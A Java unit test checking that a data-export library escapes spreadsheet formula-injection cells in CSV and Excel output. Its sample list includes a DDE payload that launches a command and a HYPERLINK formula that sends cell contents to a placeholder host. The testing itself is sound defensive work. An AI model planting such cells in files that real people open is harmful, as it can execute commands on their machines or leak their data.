package org.gongkai.data;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.gongkai.dataset.DataColumn;
import org.gongkai.dataset.DataColumn.Type;
import org.gongkai.dataset.DataTable;
import org.gongkai.dataset.Edition;
import org.gongkai.diag.Text;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.ObjectMapper;

/** Cells that spreadsheets would run or change: harmless where a spreadsheet opens the file. */
class HostileCellsTest {

  private static final List<String> HOSTILE =
      List.of(
          "=1+1",
          "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点\")",
          "+86 394 8000000",
          "-5+cmd|' /C calc'!A0",
          "@SUM(A1:A9)",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "＝1+1",
          "＋1",
          "－1",
          "＠SUM(A1)");

  private static final List<String> HARMLESS =
      List.of(
          "-5", "+5", "-1.50", "a=1", "'=1", "411600199001010000", "007", "1e5", "周政办〔2021〕12号");

  private static byte[] written(List<String> texts, Edition edition) throws IOException {
    List<DataColumn> columns = List.of(column("text", Type.STRING), column("number", Type.NUMBER));
    DataTable table =
        new DataTable(
            "data/t",
            Text.of("表"),
            Text.of(""),
            OptionalInt.empty(),
            columns,
            List.of(),
            List.of(),
            List.of(DataTable.NONE),
            () -> texts.stream().map(text -> List.<Object>of(text, new BigDecimal("-5"))));
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    TableFiles.content(table, edition).to(out);
    return out.toByteArray();
  }

  private static DataColumn column(String key, Type type) {
    return new DataColumn(
        key, Text.of(key), Text.of(""), type, "", false, false, List.of(), "", Optional.empty());
  }

  private static String sheet(byte[] xlsx) throws IOException {
    try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(xlsx))) {
      for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
        if (entry.getName().equals("xl/worksheets/sheet1.xml")) {
          return new String(zip.readAllBytes(), StandardCharsets.UTF_8);
        }
      }
    }
    throw new IOException("no sheet");
  }

  /** The texts of the first column, without the header. */
  private static List<String> texts(String sheet) {
    return Pattern.compile(
            "<c r=\"A(?!1\")[^>]*t=\"inlineStr\"><is><t[^>]*>(.*?)</t>", Pattern.DOTALL)
        .matcher(sheet)
        .results()
        .map(cell -> unescaped(cell.group(1)))
        .toList();
  }

  private static String unescaped(String xml) {
    return Pattern.compile("&#x([0-9a-f]+);")
        .matcher(xml)
        .replaceAll(
            code ->
                Matcher.quoteReplacement(Character.toString(Integer.parseInt(code.group(1), 16))))
        .replace("&apos;", "'")
        .replace("&quot;", "\"")
        .replace("&amp;", "&");
  }

  @Test
  void csvHasThemAsTexts() throws IOException {
    for (String text : HOSTILE) {
      String csv = new String(written(List.of(text), Edition.CSV), StandardCharsets.UTF_8);
      String cell = csv.substring("text,number\r\n".length());
      assertTrue(cell.startsWith("'") || cell.startsWith("\"'"), csv);
      assertTrue(cell.endsWith(",-5\r\n"), csv);
    }
    for (String text : HARMLESS) {
      String csv = new String(written(List.of(text), Edition.CSV), StandardCharsets.UTF_8);
      assertEquals("text,number\r\n" + text + ",-5\r\n", csv);
    }
  }

  @Test
  void spreadsheetsHaveThemAsTextsAndNumbersAsNumbers() throws IOException {
    List<String> all = new ArrayList<>(HOSTILE);
    all.addAll(HARMLESS);
    String sheet = sheet(written(all, Edition.EXCEL));
    assertFalse(sheet.contains("<f>"), sheet);
    List<String> texts = texts(sheet);
    for (int i = 0; i < all.size(); i++) {
      String expected = HOSTILE.contains(all.get(i)) ? "'" + all.get(i) : all.get(i);
      assertEquals(expected, texts.get(i));
    }
    assertTrue(sheet.contains("<v>-5</v>"), sheet);
  }

  @Test
  void jsonLinesHaveThemAsTheyAre() throws IOException {
    List<String> all = new ArrayList<>(HOSTILE);
    all.addAll(HARMLESS);
    String[] lines =
        new String(written(all, Edition.JSON_LINES), StandardCharsets.UTF_8).split("\n");
    assertEquals(all.size(), lines.length);
    for (int i = 0; i < lines.length; i++) {
      assertEquals(all.get(i), new ObjectMapper().readTree(lines[i]).get("text").asString());
    }
  }
}
